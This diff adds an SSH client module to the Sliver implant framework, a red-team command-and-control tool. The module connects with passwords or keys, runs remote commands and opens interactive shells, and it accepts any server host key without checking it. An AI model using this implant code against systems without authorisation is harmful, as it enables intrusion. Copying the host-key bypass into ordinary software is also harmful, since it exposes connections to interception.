@@ -0,0 +1,183 @@
+package ssh
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2020  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"bytes"
+	"errors"
+	"fmt"
+	"io"
+	"net"
+	"strconv"
+	"time"
+
+	// {{if .Debug}}
+	"log"
+	// {{end}}
+
+	gossh "golang.org/x/crypto/ssh"
+)
+
+const (
+	dialTimeout = 10 * time.Second
+)
+
+// Client - An SSH connection and the fingerprint of the server's host key
+type Client struct {
+	*gossh.Client
+	HostKey string
+}
+
+// Dial - Connect to an SSH server, authenticating with a private key and/or a password
+func Dial(hostname string, port uint16, username string, password string, privKey []byte) (*Client, error) {
+	auth := []gossh.AuthMethod{}
+	if 0 < len(privKey) {
+		signer, err := gossh.ParsePrivateKey(privKey)
+		if err != nil {
+			return nil, err
+		}
+		auth = append(auth, gossh.PublicKeys(signer))
+	}
+	if password != "" {
+		auth = append(auth, gossh.Password(password))
+		auth = append(auth, gossh.KeyboardInteractive(func(user, instruction string, questions []string, echos []bool) ([]string, error) {
+			answers := make([]string, len(questions))
+			for index := range answers {
+				answers[index] = password
+			}
+			return answers, nil
+		}))
+	}
+	if len(auth) == 0 {
+		return nil, errors.New("no password or private key")
+	}
+
+	hostKey := ""
+	config := &gossh.ClientConfig{
+		User: username,
+		Auth: auth,
+		HostKeyCallback: func(hostname string, remote net.Addr, key gossh.PublicKey) error {
+			hostKey = gossh.FingerprintSHA256(key)
+			return nil
+		},
+		Timeout: dialTimeout,
+	}
+	address := net.JoinHostPort(hostname, strconv.Itoa(int(port)))
+	// {{if .Debug}}
+	log.Printf("[ssh] Connecting to %s@%s", username, address)
+	// {{end}}
+	client, err := gossh.Dial("tcp", address, config)
+	if err != nil {
+		return nil, err
+	}
+	return &Client{Client: client, HostKey: hostKey}, nil
+}
+
+// Run - Run a command, the exit code is -1 if the command did not report one
+func (c *Client) Run(command string) (string, string, int32, error) {
+	session, err := c.NewSession()
+	if err != nil {
+		return "", "", -1, err
+	}
+	defer session.Close()
+	stdout := &bytes.Buffer{}
+	stderr := &bytes.Buffer{}
+	session.Stdout = stdout
+	session.Stderr = stderr
+	err = session.Run(command)
+	if exitErr, ok := err.(*gossh.ExitError); ok {
+		return stdout.String(), stderr.String(), int32(exitErr.ExitStatus()), nil
+	}
+	if err != nil {
+		return stdout.String(), stderr.String(), -1, err
+	}
+	return stdout.String(), stderr.String(), 0, nil
+}
+
+// Interactive - An interactive shell on the SSH server, reads and writes
+// go to the shell's stdout and stdin
+type Interactive struct {
+	Stdout  io.ReadCloser
+	Stdin   io.WriteCloser
+	session *gossh.Session
+	client  *Client
+}
+
+// Shell - Start a shell with a PTY, the shell's stderr is merged into its stdout
+func (c *Client) Shell(term string, rows uint32, cols uint32) (*Interactive, error) {
+	session, err := c.NewSession()
+	if err != nil {
+		return nil, err
+	}
+	if term == "" {
+		term = "xterm"
+	}
+	if rows == 0 || cols == 0 {
+		rows, cols = 24, 80
+	}
+	modes := gossh.TerminalModes{
+		gossh.ECHO:          1,
+		gossh.TTY_OP_ISPEED: 14400,
+		gossh.TTY_OP_OSPEED: 14400,
+	}
+	err = session.RequestPty(term, int(rows), int(cols), modes)
+	if err != nil {
+		session.Close()
+		return nil, fmt.Errorf("pty request failed: %s", err)
+	}
+	stdin, err := session.StdinPipe()
+	if err != nil {
+		session.Close()
+		return nil, err
+	}
+	reader, writer := io.Pipe()
+	session.Stdout = writer
+	session.Stderr = writer
+	err = session.Shell()
+	if err != nil {
+		session.Close()
+		return nil, err
+	}
+	shell := &Interactive{
+		Stdout:  reader,
+		Stdin:   stdin,
+		session: session,
+		client:  c,
+	}
+	go func() {
+		session.Wait()
+		writer.Close()
+	}()
+	return shell, nil
+}
+
+func (i *Interactive) Read(p []byte) (int, error) {
+	return i.Stdout.Read(p)
+}
+
+func (i *Interactive) Write(p []byte) (int, error) {
+	return i.Stdin.Write(p)
+}
+
+// Close - Close the shell and its SSH connection
+func (i *Interactive) Close() error {
+	i.Stdout.Close()
+	i.session.Close()
+	return i.client.Close()
+}